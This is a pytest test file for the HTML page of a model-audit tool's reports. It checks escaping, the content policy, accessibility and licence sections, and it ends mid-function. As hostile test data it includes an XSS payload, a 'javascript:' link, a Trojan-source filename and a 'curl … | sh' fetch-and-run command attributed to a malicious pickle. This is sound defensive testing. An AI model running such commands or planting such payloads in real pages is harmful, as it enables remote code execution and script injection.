from __future__ import annotations

import hashlib
import re
import tracemalloc
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from reports.license_examples import NOTICE_WORDS
from support.decisions import answer_use, build_decision

import modelaudit.reports
from modelaudit.model.acceptance import Acceptance, AcceptanceSource
from modelaudit.model.copies import replace
from modelaudit.model.description import Confidence, Contradiction, Fact, ModelDescription, Topic
from modelaudit.model.finding import CheckFamily, Severity
from modelaudit.model.license import Basis, ClauseQuotation, ConclusionState, TextChange
from modelaudit.model.report import AuditReport, Coverage, Extent
from modelaudit.model.signoff import ControlEvidence, SignOff, SignOffAnswer, SignOffState
from modelaudit.model.structure import Location
from modelaudit.model.terms import Answer, Clause
from modelaudit.model.verdict import Verdict
from modelaudit.reports import view, wording
from modelaudit.reports.answers import QUESTIONS, list_rulings, name_answer
from modelaudit.reports.csv_report import render_csv
from modelaudit.reports.finding_groups import MOST_ROWS, count_rows, group_by_need
from modelaudit.reports.html import format_css_string, render_html
from modelaudit.reports.inventory import compute_tree_digest
from modelaudit.reports.json_report import compute_report_digest, parse_report, render_json
from modelaudit.reports.officer_steps import list_steps
from modelaudit.reports.results import ResultKind, list_results

VOID = frozenset({"meta", "input", "br", "wbr"})
"""Elements without a closing tag."""
ELEMENTS = VOID | {
    *("html", "head", "title", "style", "script", "body", "main", "header", "section", "nav", "div", "article"),
    *("pre", "mark", "ins", "del", "select", "option", "desc", "rect", "text"),
    *("h1", "h2", "h3", "h4", "h5", "p", "ul", "ol", "li", "dl", "dt", "dd", "details", "summary"),
    *("a", "code", "small", "strong", "em", "span", "q", "time", "svg", "path", "circle"),
    *("table", "caption", "thead", "tbody", "tr", "th", "td", "label", "fieldset", "legend"),
}
CSS = Path(modelaudit.reports.__file__).parent / "templates" / "report.css"


class Page(HTMLParser):
    """A parsed page. The parser fails unless every element is closed in order and every attribute is unique.

    Attributes:
        open: the elements that are not closed yet.
        elements: every element with its attributes, in order.
        words: the pieces of text outside of the style sheet.
        style: the style sheet.
        script: the script.
    """

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.style = ""
        self.script = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), f"an attribute twice on <{tag}>"
        assert tag != "p" or "p" not in self.open, "a paragraph inside a paragraph"
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)
        elif tag == "br":
            self.words.append(" ")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in {"path", "circle", "rect"}, f"<{tag}/> closes itself"
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] == "style":
            self.style += data
        elif self.open and self.open[-1] == "script":
            self.script += data
        else:
            self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data[:40]}")

    @property
    def text(self) -> str:
        """The text of the page, with one space in place of all white space between two words."""
        return " ".join("".join(self.words).split())

    def attributes(self, tag: str) -> Iterator[dict[str, str]]:
        """Iterate over the attributes of each element with this tag."""
        return (attributes for name, attributes in self.elements if name == tag)


def parse_page(report: AuditReport) -> Page:
    """Render the HTML page of a report, and parse it."""
    html = render_html(report).decode()
    assert html.startswith("<!DOCTYPE html>\n")
    return Page(html)


def test_html_page_of_each_report_is_well_formed(any_report: AuditReport) -> None:
    page = parse_page(any_report)
    assert page.open == []
    assert {tag for tag, _ in page.elements} <= ELEMENTS
    assert next(page.attributes("html")) == {"lang": "en"}
    ids = [attributes["id"] for _, attributes in page.elements if "id" in attributes]
    assert len(ids) == len(set(ids))


def test_html_page_loads_nothing_and_runs_no_script(any_report: AuditReport) -> None:
    page = parse_page(any_report)
    ids = {attributes.get("id") for _, attributes in page.elements}
    for tag, attributes in page.elements:
        assert not [
            name for name in attributes if name.startswith("on") or name in {"src", "srcset", "style", "action"}
        ]
        assert "href" not in attributes or tag == "a"
        if tag == "a" and not attributes["href"].startswith("#"):
            assert attributes["href"].startswith("https://")
            assert attributes["rel"] == "noopener noreferrer"
        elif tag == "a":
            assert attributes["href"][1:] in ids
    assert "url(" not in page.style and "@import" not in page.style and "<" not in page.style
    policy = next(each for each in page.attributes("meta") if "http-equiv" in each)
    assert policy["http-equiv"] == "Content-Security-Policy"
    assert policy["content"].startswith("default-src 'none'; style-src 'unsafe-inline'")


def test_html_page_shows_hostile_text_of_a_report_as_text(hostile: AuditReport) -> None:
    page = parse_page(hostile)
    assert "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'&amp;{{ 7*7 }}{% raw %}" in page.text
    assert "\\x1b[31;1mred" in page.text
    assert "\\u202eexe.tnegra" in page.text
    assert "\\xff\\x80\\ud800" in page.text
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]", "".join(page.words)
    )
    assert re.search(r"…\([0-9,]+ characters\)…|more characters, see the JSON report", page.text)


def test_long_path_keeps_the_name_of_the_file_on_the_page(failing: AuditReport) -> None:
    path = "/".join(["X" * 240] * 14) + "/evil.pkl"
    finding = replace(failing.findings[0], artifact=path)
    page = parse_page(replace(failing, findings=(finding,)))
    assert "characters)…" in page.text and "/evil.pkl" in page.text
    assert "X" * 241 not in page.text


FACTS = (
    "May it be loaded? Fail. 3 findings are at or above the severity high",
    "May it be used as planned? Not judged. No planned use is stated",
    "Exit code 1, fail: findings 1.",
    "3 findings are at or above the severity high, which the policy rejects.",
    "3f1a9c0de4b7a2285c6d1f0e9b8a7c6d5e4f3a2b",
    "acme/tiny-llama@main",
    "https://huggingface.co",
    "Online: files were fetched from the origin.",
    "24 November 2026, 09:30 UTC",
    "default: findings of severity high and above fail.",
    "8" * 64,
    "modelaudit 0.1.0",
    "9" * 64,
    "The revision main resolved to the commit above.",
    "4 parts not examined",
    "No reader for GGUF, magic 47475546.",
    "pytorch_model.bin!archive/data.pkl byte 2,048",
    "Accepted by the policy default: images carry no weights.",
    "The card declares Apache-2.0, which is permissive.",
    "Both cannot hold for the same weights, so neither is relied on.",
    "LLAMA 3.1 COMMUNITY LICENSE AGREEMENT",
    "Named as a base model.",
    "Not looked up: its licence may bind you too",
    "Ship the licence. Give everyone who receives the model a copy of the licence. section 4(a)",
    "Terms read for the rule set on 2026-11-20.",
    "These terms are not verified against the licence text.",
    "Loading the file calls a function that can run commands",
    "Loading it calls posix.system with the argument 'curl -s https://example.org/x | sh'.",
    "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
    "whoever loads the file hands over the machine",
    "Ask the publisher for safetensors weights",
    "CWE-502",
    "The model as a whole",
    "has a finding in this file too",
    "has none in this file",
    "modelscan disagrees: it found nothing in these files",
    "No opinion. It did not examine these files, so it neither confirms nor contradicts this report.",
    "It is not installed for this version of Python.",
    "7 files, 5,125,779,458 bytes",
    "No digest was computed.",
    "4.13 GB 4,130,000,000 bytes",
    "a" * 64,
    "the Hub (https://huggingface.co) states SHA-256 " + "c" * 64,
    "CONTRADICTED, by the Hub (https://huggingface.co).",
    "zip, pickle, tensor-storage; 151 members inside",
    "Approved under conditions",
    "Signature",
)


@pytest.mark.parametrize("fact", FACTS)
def test_html_page_shows_the_expected_facts_of_a_failing_report(fact: str, failing: AuditReport) -> None:
    assert " ".join(fact.split()) in parse_page(failing).text


def test_html_page_lists_a_check_that_did_not_run_only_if_it_has_rules(failing: AuditReport) -> None:
    assert "Checks that did not run" not in parse_page(failing).text
    policy = replace(failing.policy, checks=(CheckFamily.SECURITY,))
    text = parse_page(replace(failing, policy=policy)).text
    assert "Checks that did not run: integrity, licence, provenance." in text


def test_sections_of_the_page_are_in_reading_order(failing: AuditReport) -> None:
    page = parse_page(failing)
    sections = [attributes["aria-labelledby"] for attributes in page.attributes("section") if "id" in attributes]
    assert [name.removesuffix("-title") for name in sections] == [
        *("signoff", "findings", "license", "inventory", "method")
    ]
    assert page.text.index("May it be loaded?") < page.text.index("Not examined") < page.text.index("Sign-off ")


def test_html_page_contains_the_report_digest_and_renders_equally_from_the_json_report(failing: AuditReport) -> None:
    page = parse_page(failing)
    assert page.text.count(compute_report_digest(failing)) == 1
    assert compute_report_digest(failing) in page.style
    assert render_html(parse_report(render_json(failing))) == render_html(failing)


def test_html_page_shows_each_severity_as_a_word_with_a_shape_of_its_own(failing: AuditReport) -> None:
    html = render_html(failing).decode()
    shapes = {}
    for severity in ("critical", "high", "medium", "low", "info"):
        found = re.search(rf'<span class="badge {severity}"><svg[^>]*>(.*?)</svg> {severity.capitalize()}</span>', html)
        assert found
        shapes[severity] = found[1]
    assert len(set(shapes.values())) == 5


def test_rendering_of_many_files_takes_little_more_memory_than_the_page(passing: AuditReport) -> None:
    record = passing.coverage.artifacts[0]
    records = tuple(replace(record, path=f"{number}.bin") for number in range(10_000))
    report = replace(passing, decision=replace(passing.decision, coverage=replace(passing.coverage, artifacts=records)))
    render_html(passing)  # compiles the template
    tracemalloc.start()
    try:
        page = render_html(report)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * len(page)


def test_html_tables_have_captions_and_header_scopes(failing: AuditReport) -> None:
    page = parse_page(failing)
    tags = [tag for tag, _ in page.elements]
    assert tags.count("table") == tags.count("caption") > 3
    assert all(attributes["scope"] in {"col", "row", "rowgroup"} for attributes in page.attributes("th"))


def test_html_page_links_only_https_references(failing: AuditReport) -> None:
    page = parse_page(failing)
    links = {attributes["href"] for attributes in page.attributes("a") if not attributes["href"].startswith("#")}
    assert links == {
        "https://docs.python.org/3/library/pickle.html",
        "https://cwe.mitre.org/data/definitions/502.html",
        "https://www.apache.org/licenses/LICENSE-2.0",
        "https://www.llama.com/llama3_1/license/",
    }
    assert "javascript:alert(1)" in page.text


def test_html_page_folds_a_thousand_findings_of_one_rule_and_omits_none(
    examples: dict[str, Callable[[], AuditReport]],
) -> None:
    report = examples["crowded"]()
    page = parse_page(report)
    assert {f"finding-{finding.fingerprint}" for finding in report.findings} <= {
        attributes.get("id") for attributes in page.attributes("li")
    }
    # The failing report has one finding of the rule, and the crowded one a thousand more.
    # The finding on another file is at another place, so it does not fold with the others.
    assert f"{1001 - MOST_ROWS:,} more places of this rule" in page.text
    assert page.text.count("The function belongs to a package outside the trust list") == 1


def test_shown_and_folded_entries_of_findings_add_up_to_all_and_the_page_names_the_outputs_with_the_rest(
    failing: AuditReport,
) -> None:
    first = failing.findings[0]
    record = failing.coverage.artifacts[0]
    # Seven messages, each of four files: five rows stand for twenty files, and eight entries are folded.
    findings = tuple(
        replace(first, artifact=f"{number}-{copy}.pkl", message=f"Message {number}.", fingerprint=f"{number}{copy}")
        for number in range(7)
        for copy in range(4)
    )
    records = tuple(replace(record, path=each.artifact, absences=()) for each in findings)
    decision = replace(failing.decision, coverage=Coverage(records))
    report = replace(failing, findings=findings, decision=decision)
    rows = count_rows(group_by_need(report))
    assert (rows.total, rows.single, rows.merged, rows.merged_rows, rows.folded) == (28, 0, 20, 5, 8)
    table = render_csv(report)
    assert (
        "Of 28 entries in this annex, 5 rows stand for 20 and 8 are folded and not printed. The JSON output lists each "
        "of them, and the CSV output of this report (28 rows, one for each file; SHA-256 "
        f"{hashlib.sha256(table).hexdigest()}) counts those of each file."
    ) in parse_page(report).text


def test_rows_of_findings_add_up_in_every_report(any_report: AuditReport) -> None:
    rows = count_rows(group_by_need(any_report))
    assert rows.single + rows.merged + rows.folded == rows.total
    assert bool(rows.merged or rows.folded) is (rows.describe() in parse_page(any_report).text)


def test_findings_with_equal_fingerprints_have_different_anchors_on_the_page(hostile: AuditReport) -> None:
    assert hostile.findings[0] == hostile.findings[1]
    ids = [attributes["id"] for attributes in parse_page(hostile).attributes("li") if "id" in attributes]
    assert len(ids) == len(set(ids))


def test_html_page_of_an_empty_model_does_not_describe_it_as_examined(incomplete: AuditReport) -> None:
    text = parse_page(incomplete).text
    assert "May it be loaded? Incomplete. There was nothing to examine." in text
    assert "examined completely" not in text
    assert "No licence is declared for the model. Without one, nothing is permitted." in text
    assert "No obligations can be listed" in text
    assert "No second scanner ran." in text


def test_html_page_of_a_pass_states_the_accepted_absences(passing: AuditReport, failing: AuditReport) -> None:
    accepted_image = failing.coverage.artifacts[2]
    coverage = replace(passing.coverage, artifacts=(*passing.coverage.artifacts, accepted_image))
    text = parse_page(replace(passing, decision=build_decision(Verdict.PASS, (), coverage))).text
    assert "1 part not examined" in text and "Accepted by the policy default" in text


def test_html_page_of_a_passed_model_is_green_only_if_the_use_is_allowed_too(passing: AuditReport) -> None:
    assert '<section class="verdict pass"' in render_html(passing).decode()
    license_ = replace(passing.license, state=ConclusionState.UNDECLARED)
    doubtful = replace(passing, license=license_, decision=replace(passing.decision, use=answer_use(license_)))
    html = render_html(doubtful).decode()
    assert '<section class="verdict review"' in html
    assert '<h2 id="verdict">Pass, use not judged</h2>' in html
    # Each answer has the color of its own verdict, and nothing but a pass looks like one.
    assert '<div class="answer pass"><dt>' in html and '<div class="answer review"><dt>' in html
    assert '<div class="callout review">' in html
    text = parse_page(doubtful).text
    assert "Exit code 0, pass, use not judged: the policy does not demand an answer on use." in text


def test_html_page_of_a_failed_model_is_red_even_if_its_license_allows_shipping(
    failing: AuditReport, passing: AuditReport
) -> None:
    assert '<section class="verdict fail"' in render_html(replace(failing, license=passing.license)).decode()


def test_printed_html_page_does_not_cut_off_the_sign_off_fields(any_report: AuditReport) -> None:
    page = parse_page(any_report)
    fields = [attributes for attributes in page.attributes("div") if "contenteditable" in attributes]
    ids = {attributes.get("id") for _, attributes in page.elements}
    # A planned use that was judged leaves no line for another one.
    has_use = any_report.license.intent is not None and any_report.license.intent.is_stated
    assert len(fields) == 1
    assert ("Intended use" in page.text) is not has_use
    assert all(attributes["aria-labelledby"] in ids for attributes in fields)
    assert re.search(r"\.paper \{ min-height: ([\d.]+)rem; line-height: ([\d.]+)rem;[^}]*overflow: visible", page.style)
    # The block to sign stays on one page.
    unbroken = re.findall(r"([^{}]*)\{ break-inside: avoid", page.style)
    assert any(".signoff" in each for each in unbroken)


def test_page_states_the_digest_of_all_files_once_or_why_none_can_be_given(
    passing: AuditReport, failing: AuditReport, incomplete: AuditReport
) -> None:
    text = parse_page(passing).text
    assert text.count(f"Tree digest {compute_tree_digest(passing)} ") == 1
    assert all(field in text for field in ("Intended use", "valid until", "Second signature"))
    assert "if you decide against the verdict" not in text
    assert "if you decide against the verdict" in parse_page(failing).text
    assert re.search(r"No tree digest, because \d files? (?:has|have) no SHA-256 digest", parse_page(failing).text)
    assert "No tree digest, because there is no file" in parse_page(incomplete).text


def test_sign_off_names_the_parties_of_the_policy_and_the_recorded_answers(passing: AuditReport) -> None:
    policy = replace(passing.policy, organization="Acme Audit", reference="MR-2026-14", reviewer="Jane Roe")
    answer = SignOff(
        *("a" * 64, SignOffAnswer.APPROVE, "we read it", "Jane Roe", "counsel", "Max Muster"),
        *("2026-11-24", "2027-05-01", SignOffState.VALID, "decisions.yaml:4", "MR-2026-14"),
    )
    other = replace(answer, state=SignOffState.OTHER_REPORT, by="Ann Other", answer=SignOffAnswer.REFUSE)
    report = replace(passing, policy=policy, signoffs=(other, answer))
    text = parse_page(report).text
    block = text[text.index("Sign-off Organisation") :]
    assert block.startswith("Sign-off Organisation Acme Audit Reference MR-2026-14 Reviewer Jane Roe ")
    signed = (
        "Given to another report with the same files, findings, licences, planned use and policy "
        f"(data with the SHA-256 {'a' * 64}); it counts here too."
    )
    assert f"Approved: we read it. {signed} decisions.yaml:4, MR-2026-14" in block
    assert "Jane Roe (counsel)Max Muster (role not recorded)2026-11-24 to 2027-05-01" in block
    assert block.index("Jane Roe (counsel)") < block.index("Ann Other")
    assert f"Answers another report on this model, SHA-256 {'a' * 64}, and does not count here." in block
    assert (
        f"@top-left {{ content: {format_css_string('Acme Audit · MR-2026-14 · tiny')}; }}" in parse_page(report).style
    )


def test_html_page_groups_clauses_of_a_license_into_limits_duties_and_notes(failing: AuditReport) -> None:
    text = parse_page(failing).text
    llama_section = text[text.index("https://www.llama.com/llama3_1/license/") :]
    places = [
        llama_section.index(each)
        for each in (wording.LIMITS_HEADING, "700 million", wording.DUTIES_HEADING, "Built with Llama")
    ]
    assert places == sorted(places)
    entry = replace(failing.license.entries[0], clauses=(Clause("patent-termination", "Do not sue.", "part 3"),))
    text = parse_page(replace(failing, license=replace(failing.license, entries=(entry,)))).text
    notes = text[text.index(wording.NOTES_HEADING) : text.index("How the licence was determined")]
    assert (
        notes.split()
        == f"{wording.NOTES_HEADING} Suing can end your rights. Do not sue. part 3 For information.".split()
    )


def test_printed_page_header_names_the_model(passing: AuditReport, hostile: AuditReport) -> None:
    assert '@top-left { content: "tiny"; } @top-right { content: "Verdict: Pass"; }' in parse_page(passing).style
    # A character that could end the string is a CSS escape of six hexadecimal digits.
    evil = re.search(r'@top-left \{ content: "((?:[A-Za-z0-9 ._-]|\\[0-9a-f]{6})*)"; \}', parse_page(hostile).style)
    assert evil and evil[1].startswith("\\00003c\\00002fscript\\00003e")


def test_html_page_lists_what_a_scan_never_covers_and_the_glossary(any_report: AuditReport) -> None:
    text = parse_page(any_report).text
    for fact in (*wording.NEVER_COVERED, "Digest: A number computed from bytes."):
        assert fact in text
    # Words that this page does not use are not explained.
    assert ("Commit: An exact version" in text) is (any_report.target.commit is not None)
    assert ("Fingerprint: The 16 letters" in text) is bool(any_report.findings)


def test_html_templates_spell_the_noun_licence_with_c() -> None:
    for path in CSS.parent.glob("*.j2"):
        # Without the expressions of the template and the tags of HTML.
        prose = re.sub(r"\{[%{#].*?[%}#]\}|<[^>]*>", " ", path.read_text(encoding="utf-8"), flags=re.DOTALL)
        assert "license" not in prose.lower(), path.name


def _compute_luminance(color: str) -> float:
    """Compute the relative luminance of a color ``#rrggbb`` (WCAG 2.2, definition of relative luminance)."""
    channels = [int(color[start : start + 2], 16) / 255 for start in (1, 3, 5)]
    red, green, blue = (each / 12.92 if each <= 0.04045 else ((each + 0.055) / 1.055) ** 2.4 for each in channels)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


TEXT_AND_GROUND_COLORS = [
    *((ink, ground) for ink in ("ink", "soft", "link", "no", "bad") for ground in ("sheet", "tint")),
    *(("on", tone) for tone in ("critical", "high", "medium", "low", "info", "pass", "fail", "incomplete")),
    *((verdict, f"{verdict}-tint") for verdict in ("pass", "fail", "incomplete")),
    *(("ink", f"{verdict}-tint") for verdict in ("pass", "fail", "incomplete")),
    # The answers in a banner have the color of their own verdicts, which may be milder than that of the banner.
    ("pass", "incomplete-tint"), ("pass", "fail-tint"), ("incomplete", "fail-tint"),
]  # fmt: skip


@pytest.mark.parametrize("theme", [0, 1, 2], ids=["light", "dark", "print"])
def test_contrast_of_text_on_the_html_page_meets_wcag_aa(theme: int) -> None:
    blocks = re.findall(r":root \{(.*?)\}", CSS.read_text(encoding="utf-8"), re.DOTALL)
    assert len(blocks) == 3
    colors = dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6});", blocks[theme]))
    for text, ground in TEXT_AND_GROUND_COLORS:
        light, dark = sorted((_compute_luminance(colors[text]), _compute_luminance(colors[ground])), reverse=True)
        # The contrast ratio of WCAG 2.2, success criterion 1.4.3.
        assert (light + 0.05) / (dark + 0.05) >= 4.5, f"{text} on {ground}"


def test_every_text_color_of_the_style_sheet_is_among_those_whose_contrast_is_checked() -> None:
    style = CSS.read_text(encoding="utf-8")
    text_colors = set(re.findall(r"(?<!-)color: var\(--([\w-]+)\)", style))
    tones = set(re.findall(r"--tone: var\(--([\w-]+)\)", style))
    assert "tone" in text_colors  # the color of a verdict on its tint, and the ground of a badge
    assert text_colors - {"tone"} == {text for text, _ in TEXT_AND_GROUND_COLORS} - {"pass", "fail", "incomplete"}
    assert tones == {ground for text, ground in TEXT_AND_GROUND_COLORS if text == "on"}


def test_license_section_of_the_html_page_shows_the_answer_with_reasons_and_evidence(conflicting: AuditReport) -> None:
    text = parse_page(conflicting).text
    planned = "Planned use Commercial use, giving copies to others"
    section = text[text.index("Annex B Licence" if "Annex B Licence" in text else "Annex A Licence") :]
    assert planned in text and planned not in section
    parts = (
        "Reasons against your planned use, and open points for a person to decide, worst first",
        "Inherited: quantized from acme/tiny-instruct, fine-tuned from acme/tiny-root.",
        "Llama-3.1, section 2 Read for the rule set on 2026-11-24",
        "Statements that differ, and items that are missing",
        "README.md line 2: “apache-2.0”",
        "Limits of use: check these first",
        "For review: see the reasons above.",
        "Follow the acceptable use policy. Forbidden uses: military, malware. section 1.b.iv",
        "Ship a copy of the agreement. section 1.b.i, through acme/tiny-root, acme/tiny-instruct To do",
        f"Exact words: {NOTICE_WORDS}",
        "How the licence was determined",
        "Resembles Llama-3.1, but differs: with the exception of section 2",
        "Lineage",
        "acme/tiny-llama is quantized from acme/tiny-instruct",
        "Its licence, and whether it was read",
        "Data sets that the model card names; their licences are separate",
        "Sources that were not read",
        "Openness",
    )
    places = [section.index(part) for part in parts]
    assert places == sorted(places)


def test_html_page_prints_each_clause_once_beside_the_words_of_the_copy(conflicting: AuditReport) -> None:
    quotation = ClauseQuotation(
        "LicenseRef-Llama-3.1",
        "user-cap",
        "section 2",
        "docs/LICENSE.txt",
        40,
        "If the monthly active users exceed 700",
    )
    report = replace(conflicting, license=replace(conflicting.license, quotations=(quotation,)))
    page = parse_page(report)
    for entry in report.license.entries:
        for clause in entry.clauses:
            assert page.text.count(clause.text) == 1, clause.text
    assert "section 2 If the monthly active users exceed 700 docs/LICENSE.txt:40" in page.text
    assert page.text.count(quotation.text) == 1


def test_html_page_ticks_no_duty_and_names_the_file_that_the_repository_holds_for_it(
    examples: dict[str, Callable[[], AuditReport]],
) -> None:
    page = parse_page(examples["allowed"]())
    html = render_html(examples["allowed"]()).decode()
    boxes = re.findall(r'<input type="checkbox"([^>]*)>\s*<span>([^<]*)', html)
    # A file in the repository is a fact; whether the user ships it is for the user to tick.
    assert boxes and not [text for attributes, text in boxes if "checked" in attributes]
    assert "To do; the repository holds LICENSE" in [text for _, text in boxes]
    assert "Ship the licence (section 4(a)); the repository holds LICENSE." in page.text
    assert "Apache-2.0 permits the planned use, with 2 duties." in page.text
    assert '<div class="callout pass">' in html
    assert "Terms read for the rule set on 2026-11-20." in page.text


def test_html_page_states_that_duties_of_a_denied_use_apply_only_under_an_agreement(conflicting: AuditReport) -> None:
    denied = replace(conflicting, license=replace(conflicting.license, permission=Answer.DENY))
    assert "Your planned use is not allowed: its duties apply if an agreement" in parse_page(denied).text
    assert "Your planned use is not allowed:" not in parse_page(conflicting).text


def test_html_page_refers_to_the_reasons_instead_of_repeating_a_conflict_shown_there(conflicting: AuditReport) -> None:
    license_ = conflicting.license
    detail = license_.conflicts[0].detail
    reason = replace(license_.answers[1], because=detail)
    text = parse_page(replace(conflicting, license=replace(license_, answers=(reason,)))).text
    rows = text[text.index("Statements that differ, and items") :]
    assert detail not in rows and "See the reasons above." in rows and "README.md line 2: “apache-2.0”" in rows
    assert "See the reasons above." not in parse_page(conflicting).text


def test_license_tables_have_captions_and_cell_labels(conflicting: AuditReport) -> None:
    page = parse_page(conflicting)
    tags = [tag for tag, _ in page.elements]
    assert tags.count("table") == tags.count("caption") > 3
    assert all("data-label" in each or "class" in each or "colspan" in each for each in page.attributes("td"))


def test_html_page_marks_unverified_terms(conflicting: AuditReport) -> None:
    answers = tuple(replace(each, read="") for each in conflicting.license.answers)
    license_ = replace(conflicting.license, answers=answers)
    assert (
        '<strong class="no">Terms not verified</strong>' in render_html(replace(conflicting, license=license_)).decode()
    )


class Prose(Page):
    """A page whose words leave out tables, pictures, folded lists and titles of rules, which repeat by their nature."""

    def handle_data(self, data: str) -> None:
        if not {"td", "th", "details", "svg", "title", "h4"} & set(self.open):
            super().handle_data(data)


@pytest.mark.parametrize("name", ["fail", "pass", "incomplete", "allowed", "conflicting"])
def test_page_says_nothing_twice(name: str, examples: dict[str, Callable[[], AuditReport]]) -> None:
    words = Prose(render_html(examples[name]()).decode()).words
    sentences = [sentence for piece in words for sentence in re.split(r"(?<=[.!?]) ", " ".join(piece.split()))]
    long = Counter(sentence for sentence in sentences if len(sentence.split()) >= 6)
    assert [sentence for sentence, count in long.items() if count > 1] == []


def test_numbers_and_answers_that_the_page_states_in_several_places_are_equal(any_report: AuditReport) -> None:
    page, html = parse_page(any_report), render_html(any_report).decode()
    text, decision = page.text, any_report.decision
    marks = re.findall(r'id="(finding|part)-[0-9a-f]{16}', html)
    counts = [int(each.replace(",", "")) for each in re.findall(r'<span class="count">([\d,]+)</span>', html)]
    results = [each for each in list_results(any_report) if each.kind is not ResultKind.CAUSE]
    assert len(marks) == len(results) and sum(counts) == sum(each.parts for each in results)
    assert marks.count("finding") == len(any_report.findings)
    if any_report.findings:
        assert f"unexamined parts {wording.count_noun(len(any_report.findings), 'finding')}" in text
    absences = sum(len(record.absences) for record in any_report.coverage.artifacts)
    if absences:
        counted = view.count_parts(view.list_absences(any_report), len(view.list_unexplained_records(any_report)))
        assert f"Not examined {counted}" in text and f", {counted}" in text
        numbers = [int(each.replace(",", "")) for each in re.findall(r"[\d,]*\d", counted)]
        assert sum(numbers) == absences + len(view.list_unexplained_records(any_report))
    assert ("every file was examined completely" in text) is any_report.coverage.is_complete
    files = wording.count_noun(any_report.coverage.file_count, "file")
    assert not any_report.coverage.artifacts or text.count(f"{files}, ") >= 2
    # The verdict: title, heading, statement to sign, and the head of each printed sheet.
    assert text.startswith(f"{decision.verdict.capitalize()}: ")
    assert (
        re.search(f"is {decision.verdict}[:.]", text)
        and f"Exit code {any_report.exit_code}, {decision.verdict}" in text
    )
    assert f'content: "Verdict: {decision.verdict.capitalize()}"' in page.style
    for question, ruling in list_rulings(any_report):
        answer = name_answer(any_report, question)
        assert f"{QUESTIONS[question]} {answer}." in text
        assert answer in ("Not checked", "Not judged", ruling.verdict.capitalize())
    has_consent = any(each.acceptance for each in results) or any_report.decisions
    assert ("Accepted risks None." in text) is not bool(has_consent)


def test_page_of_the_licence_alone_counts_the_files_that_were_never_opened(passing: AuditReport) -> None:
    coverage = replace(passing.coverage, unopened=157)
    text = parse_page(replace(passing, decision=replace(passing.decision, coverage=coverage))).text
    assert "Not examined 157 files left unopened; 1 file was opened." in text
    # The heading and the annex do not say that the model has one file.
    assert text.count("1 of 158 files opened") == 2
    assert "every file was" not in text and "No tree digest, because 157 files were left unopened" in text
    assert "exactly these files" not in text


def test_changed_licence_text_is_shown_with_the_words_around_it_and_accuses_no_one(conflicting: AuditReport) -> None:
    changes = (
        TextChange(12, "grants you a worldwide", "for research", "royalty-free license", 0),
        TextChange(40, "under the terms", "", "of this Agreement", 7),
    )
    license_ = conflicting.license
    claims = tuple(replace(each, changes=changes) if each.basis is Basis.VARIANT else each for each in license_.claims)
    html = render_html(replace(conflicting, license=replace(license_, claims=claims))).decode()
    assert "… grants you a worldwide <ins>for research</ins> royalty-free license …" in html
    assert "… under the terms <del>[7 words of the licence]</del> of this Agreement …" in html
    assert "Whether the change matters is for a person to read." in html


def test_lineage_is_a_picture_with_the_same_words_for_those_who_do_not_see_it(conflicting: AuditReport) -> None:
    html = render_html(conflicting).decode()
    picture = html[html.index('<svg class="lineage"') : html.index("</svg>", html.index('<svg class="lineage"'))]
    assert 'role="img" aria-labelledby="lineage-title lineage-words"' in picture
    for origin in conflicting.license.origins:
        assert picture.count(origin.name) >= 2, "in a box, and in the words"
    # Two base models of the example were not read.
    assert picture.count('class="box unread"') == 2 and picture.count('class="rail"') == 3
    lone = replace(conflicting, license=replace(conflicting.license, origins=()))
    assert '<svg class="lineage"' not in render_html(lone).decode()


def test_facts_about_the_model_have_sources_and_contradictions_are_named(passing: AuditReport) -> None:
    declared = Fact(Topic.PARAMETERS, "7000000000", Confidence.DECLARED, "README.md", Location(line=4))
    counted = Fact(Topic.PARAMETERS, "6738415616", Confidence.VERIFIED, "model.safetensors")
    shape = Fact(Topic.DIMENSION, "4096", Confidence.FOUND, "config.json", qualifiers=(("name", "hidden"),))
    description = ModelDescription(
        (counted, declared, shape), (Contradiction(declared, counted, "the card states 7 billion parameters"),)
    )
    text = parse_page(replace(passing, description=description)).text
    assert "Parameters6,738,415,616; 7,000,000,000model.safetensors and README.md, line 4 verified and declared" in text
    assert "The card states 7 billion parameters. README.md, line 4; model.safetensors." in text
    assert "1 contradiction" in text and "hidden: 4096" in text
    assert "Annex B The model" not in parse_page(passing).text


def test_controls_say_which_are_evidenced_and_what_is_missing(passing: AuditReport) -> None:
    controls = (
        ControlEvidence("NIST SP 800-53 Rev. 5", "SI-7", "Integrity", ("Digests of 1 file",), "Watch at run time."),
        ControlEvidence("NIST SP 800-53 Rev. 5", "CM-14", "Signed components", (), "A signature."),
    )
    text = parse_page(replace(passing, controls=controls)).text
    assert "Controls evidence: 1 of 2" in text
    assert "NIST SP 800-53 Rev. 5: evidence towards 1 of 2; 1 not evidenced" in text
    assert "SI-7 IntegrityDigests of 1 file. Watch at run time." in text
    assert "CM-14 Signed componentsNot evidencedA signature." in text


def test_findings_are_grouped_by_the_decision_they_need_and_equal_ones_fold(failing: AuditReport) -> None:
    acceptance = Acceptance(AcceptanceSource.DECISION, "decisions.yaml:3", "known", "Ann", "Bob", "2027-01-01")
    call, mismatch, *others = failing.findings
    record = replace(failing.coverage.artifacts[5], absences=(), extent=Extent.EXAMINED)
    copies = tuple(replace(call, artifact=f"copy-{number}.bin", key=str(number)) for number in range(3))
